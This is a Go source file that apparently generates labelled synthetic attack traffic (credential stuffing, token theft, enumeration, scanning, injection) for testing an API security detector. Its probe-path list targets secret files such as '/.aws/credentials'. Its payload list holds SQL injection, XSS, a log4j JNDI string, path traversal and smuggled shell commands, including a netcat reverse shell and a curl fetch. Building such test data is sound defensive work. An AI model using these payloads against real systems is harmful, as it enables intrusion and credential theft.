package replay

import (
	"fmt"
	"strconv"
	"time"

	"github.com/apiguard/apiguard/event"
)

// attacks adds Campaigns campaigns of every attack kind, each at a random
// time after the warm-up, counting them in campaigns. Attackers copy
// browser user agents and, where the attack allows, spread over many IPs.
func (g *gen) attacks(campaigns map[string]int) {
	for _, kind := range AttackKinds {
		runs := g.cfg.Campaigns
		if kind == "campaign" && runs > 0 {
			runs = max(runs, 4) // each of its four forms
		}
		for n := range runs {
			label := kind + "/" + strconv.Itoa(n)
			t := g.start + int64(2*time.Hour) + g.rng.Int64N(g.end-g.start-int64(3*time.Hour))
			switch kind {
			case "volumetric":
				g.volumetric(t, n, label)
			case "credential_stuffing":
				g.stuffing(t, n, label)
			case "stolen_token":
				g.stolen(t, n, label)
			case "enumeration":
				g.enumerate(t, n, label)
			case "scraping":
				g.scrape(t, n, label)
			case "probing":
				g.probe(t, n, label)
			case "bot_timing":
				g.bot(t, n, label)
			case "parameters":
				g.inject(t, n, label)
			case "shadow_api":
				g.shadow(t, n, label)
			case "error_latency":
				g.incident(t, n, label)
			case "campaign":
				g.campaign(t, n, label)
			case "sequence":
				g.sequenceAbuse(n, label)
			}
			campaigns[kind]++
		}
	}
}

// volumetric: an account checking out, adding to cart or reading its
// profile at machine speed (carding, inventory hoarding).
func (g *gen) volumetric(t int64, n int, label string) {
	who := "user-x" + strconv.Itoa(n)
	c := []client{chrome, tool, firefox}[n%3]
	c.ip = g.ip(netipInvalid)
	t = g.login(t, c, who, label)
	token := hashed("tok:", who)
	apis := [][3]string{{"POST", apiOrders, "/orders"}, {"POST", apiCart, "/cart/items"}, {"GET", apiUser, "/users/9" + strconv.Itoa(n)}}[n%3]
	for end := t + int64(8*time.Minute); t < end; t += int64((0.4 + 0.4*g.rng.Float64()) * 1e9) {
		g.emit(req{t: t, c: c, sub: who, token: token, method: apis[0], api: apis[1], path: apis[2], status: 201, bytes: 600, label: label})
	}
}

// stuffing: leaked credentials tried against the login, from one data
// centre IP, from many residential IPs with one tool (the distributed
// form), or from one network.
func (g *gen) stuffing(t int64, n int, label string) {
	attempt := func(t int64, c client, i int) {
		status := 401
		if g.rng.Float64() < 0.04 {
			status = 200
		}
		g.emit(req{t: t, c: c, method: "POST", api: apiLogin, path: "/login", status: status, bytes: 90,
			account: hashed("acct:", fmt.Sprintf("leak-%d-%d@example.net", n, i)), label: label})
	}
	c := tool
	switch n % 3 {
	case 0: // one IP in a data centre
		c.ip = g.ip(g.dc[30+n%10])
		for i, tt := 0, t; tt < t+int64(10*time.Minute); i, tt = i+1, tt+int64((0.5+g.rng.Float64())*1e9) {
			attempt(tt, c, i)
		}
	case 1: // distributed: a new residential IP every few attempts, one tool
		for i, tt := 0, t; tt < t+int64(15*time.Minute); i, tt = i+1, tt+int64((1+2*g.rng.Float64())*1e9) {
			if i%3 == 0 {
				c.ip = g.ip(netipInvalid)
			}
			attempt(tt, c, i)
		}
	default: // one /24, rotating addresses, a browser's user agent
		c = firefox
		net := g.nets[g.rng.IntN(len(g.nets))]
		for i, tt := 0, t; tt < t+int64(12*time.Minute); i, tt = i+1, tt+int64((1+g.rng.Float64())*1e9) {
			c.ip = g.ip(net)
			attempt(tt, c, i)
		}
	}
}

// stolen: a victim shops as usual; after a dozen requests their token is
// used by someone else, elsewhere, with another program.
func (g *gen) stolen(t int64, n int, label string) {
	who := "user-v" + strconv.Itoa(n)
	victim := []client{chrome, safari, firefox}[n%3]
	victim.ip = g.ip(netipInvalid)
	g.orders[who] = []int{5000 + n, 5100 + n}
	start := t
	end := g.userSession(t, victim, who, 45, "")
	// The attacker starts after the victim's twelfth request or so.
	t = start + (end-start)/3
	thief := []client{curl, tool, chrome}[n%3]
	thief.ip = g.ip(g.dc[35+n%5])
	token := hashed("tok:", who+strconv.FormatInt(start, 10))
	for i := range 15 {
		path, api := "/users/"+userNum(who), apiUser
		if i%2 == 0 {
			path, api = "/orders/"+strconv.Itoa(g.orders[who][i%2]), apiOrder
		}
		g.emit(req{t: t, c: thief, sub: who, token: token, method: "GET", api: api, path: path, bytes: 2000, label: label})
		t += int64((5 + 10*g.rng.Float64()) * 1e9)
	}
}

// enumerate: a logged-in account walks order ids (BOLA), or tries user ids
// at random.
func (g *gen) enumerate(t int64, n int, label string) {
	who := "user-e" + strconv.Itoa(n)
	c := []client{tool, chrome, firefox}[n%3]
	c.ip = g.ip(netipInvalid)
	t = g.login(t, c, who, label)
	token := hashed("tok:", who)
	id := 100000 + g.rng.IntN(50000)
	gap := []float64{1.5, 4, 2}[n%3]
	for end := t + int64(8*time.Minute); t < end; t += int64((gap * (0.7 + 0.6*g.rng.Float64())) * 1e9) {
		r := req{t: t, c: c, sub: who, token: token, method: "GET", label: label, status: 403, bytes: 150}
		if n%3 == 1 {
			u := g.rng.IntN(200000)
			r.api, r.path = apiUser, "/users/"+strconv.Itoa(u)
			if g.rng.Float64() < 0.7 {
				r.status = 404
			}
		} else {
			id++
			r.api, r.path = apiOrder, "/orders/"+strconv.Itoa(id)
			if g.rng.Float64() < 0.15 {
				r.status = 404
			}
		}
		g.emit(r)
	}
}

// scrape: the catalogue copied product by product, anonymously or through
// an account, at a pace a busy person might keep.
func (g *gen) scrape(t int64, n int, label string) {
	c := []client{tool, chrome, safari}[n%3]
	c.ip = g.ip(g.dc[25+n%5])
	base := req{c: c, label: label}
	if n%3 == 2 {
		base.sub, base.token = "user-s"+strconv.Itoa(n), hashed("tok:", "user-s"+strconv.Itoa(n))
	}
	id := g.rng.IntN(productsCount)
	for end := t + int64(25*time.Minute); t < end; t += int64((0.8 + 0.8*g.rng.Float64()) * 1e9) {
		id = (id + 1 + g.rng.IntN(3)) % productsCount
		r := base
		r.t, r.method, r.api, r.path, r.bytes = t, "GET", apiProduct, "/products/"+strconv.Itoa(id+1), 3000+int64(g.rng.IntN(6000))
		g.emit(r)
	}
}

var probePaths = []string{"/.env", "/.git/config", "/admin", "/admin/login", "/wp-login.php", "/phpmyadmin/", "/server-status",
	"/api/v2/users", "/api/internal", "/actuator/env", "/config.json", "/backup.zip", "/debug", "/graphql", "/swagger.json",
	"/v2/orders", "/console", "/.aws/credentials", "/cgi-bin/test.cgi", "/login.php", "/api/admin/users", "/metrics"}

// probe: a scanner mapping the API, with its own user agent or a browser's;
// the third campaign also trips a decoy path.
func (g *gen) probe(t int64, n int, label string) {
	c := []client{scanner, tool, chrome}[n%3]
	c.ip = g.ip(g.dc[n%10])
	for i := range 200 {
		p := probePaths[g.rng.IntN(len(probePaths))]
		if g.rng.Float64() < 0.5 {
			p += "/" + strconv.Itoa(g.rng.IntN(1000))
		}
		r := req{t: t, c: c, method: []string{"GET", "GET", "POST", "PUT"}[g.rng.IntN(4)], path: p, status: 404, bytes: 120, label: label}
		r.api = r.method + " " + templated(p)
		if n%3 == 2 && i == 150 {
			r.path, r.api, r.decision, r.check = "/internal/backup", "GET /internal/backup", event.Decision_DECISION_BLOCK, "decoy"
		}
		if g.rng.Float64() < 0.1 {
			r.status = 405
		}
		g.emit(r)
		t += int64((0.3 + 2*g.rng.Float64()) * 1e9)
	}
}

// templated replaces numeric segments by {id}, as the proxy does for
// paths no route names.
func templated(p string) string {
	out := []byte{}
	seg := []byte{}
	flush := func() {
		if len(seg) == 0 {
			return
		}
		if _, err := strconv.Atoi(string(seg)); err == nil {
			out = append(out, "{id}"...)
		} else {
			out = append(out, seg...)
		}
		seg = seg[:0]
	}
	for i := 0; i < len(p); i++ {
		if p[i] == '/' {
			flush()
			out = append(out, '/')
			continue
		}
		seg = append(seg, p[i])
	}
	flush()
	return string(out)
}

// bot: a script with a browser's user agent polling prices on a timer.
func (g *gen) bot(t int64, n int, label string) {
	c := []client{chrome, tool, safari}[n%3]
	c.ip = g.ip(netipInvalid)
	period := []float64{3, 5, 8}[n%3]
	ids := []int{g.productID(), g.productID(), g.productID()}
	for i, end := 0, t+int64(40*time.Minute); t < end; i, t = i+1, t+int64(period*(0.99+0.02*g.rng.Float64())*1e9) {
		id := ids[i%len(ids)]
		g.emit(req{t: t, c: c, method: "GET", api: apiProduct, path: "/products/" + strconv.Itoa(id), bytes: 4000, label: label})
	}
}

var payloads = []string{
	"shoes'/**/UnIoN/**/SeLeCt/**/password/**/FrOm/**/users--", "laptop\" or \"1\"=\"1", "<svg/onload=alert`1`>",
	"{{7*7}}", "${jndi:ldap://x.example/a}", "../../../../etc/passwd", "desk;cat /etc/passwd", "lamp|nc -e /bin/sh 1.2.3.4 4444",
	"%27%20OR%20sleep(5)%23", "coffee' AND extractvalue(1,concat(0x7e,version()))--", "javascript:alert(document.domain)",
	"chair\r\nSet-Cookie: a=b", "book AND 1=1", "1;WAITFOR DELAY '0:0:5'--", "__proto__[admin]=1", "$(curl x.example)",
}

// inject: an attacker mixes ordinary searches with obfuscated payloads
// that signature rules miss.
func (g *gen) inject(t int64, n int, label string) {
	c := []client{chrome, firefox, tool}[n%3]
	c.ip = g.ip(netipInvalid)
	for i := range 30 {
		r := g.search(req{t: t, c: c, label: label})
		if i%2 == 1 {
			r.query[0].Value = payloads[(i/2+n*5)%len(payloads)]
		}
		g.emit(r)
		t += g.think() * 2
	}
}

// shadow: an undeclared debug endpoint served to an internal tool, an
// undeclared admin export, and a deprecated endpoint an old app version
// still calls.
func (g *gen) shadow(t int64, n int, label string) {
	switch n % 3 {
	case 0:
		c := curl
		c.ip = g.ip(g.dc[39])
		for range 5 {
			g.emit(req{t: t, c: c, method: "GET", api: "GET /internal/debug/vars", path: "/internal/debug/vars", bytes: 9000, label: label})
			t += int64(30e9)
		}
	case 1:
		c := chrome
		c.ip = g.ip(netipInvalid)
		for range 3 {
			g.emit(req{t: t, c: c, method: "POST", api: "POST /admin/export", path: "/admin/export", bytes: 200000, label: label})
			t += int64(120e9)
		}
	default:
		for u := range 6 {
			c := oldApp
			c.ip = g.ip(netipInvalid)
			who := "app-old" + strconv.Itoa(u)
			tt := t + int64(u)*int64(3*time.Minute)
			for range 4 {
				o := 100000 + g.rng.IntN(50000)
				g.emit(req{t: tt, c: c, sub: who, token: hashed("tok:", who), method: "GET", api: apiLegacy,
					path: "/v1/legacy/orders/" + strconv.Itoa(o), bytes: 2000, label: label})
				tt += g.think()
			}
		}
	}
}

// incident: an upstream failing for 12 minutes on one API — a third of
// its answers are 503 and the rest are six times slower. Every request to
// it meanwhile carries the label.
func (g *gen) incident(t int64, n int, label string) {
	api := []string{apiProduct, apiProducts, apiProduct}[n%3]
	end := t + int64(12*time.Minute)
	for i := range g.items {
		it := &g.items[i]
		if it.ev.Api != api || it.ev.TimeUnixNano < t || it.ev.TimeUnixNano >= end || it.label != "" {
			continue
		}
		it.label = label
		if g.rng.Float64() < 0.35 {
			it.ev.Status, it.ev.ResponseBytes = 503, 200
		}
		it.ev.UpstreamLatencyNanos *= 6
		it.ev.DurationNanos = it.ev.UpstreamLatencyNanos + 300_000
	}
	// The incident also makes clients retry: a burst of extra requests.
	for tt := t; tt < end; tt += int64(2e9) {
		c := chrome
		c.ip = g.ip(netipInvalid)
		r := g.product(req{t: tt, c: c, label: label})
		r.api = api
		if api == apiProducts {
			r = g.search(req{t: tt, c: c, label: label})
		}
		r.status, r.latency = 503, 2*time.Second
		g.emit(r)
	}
}
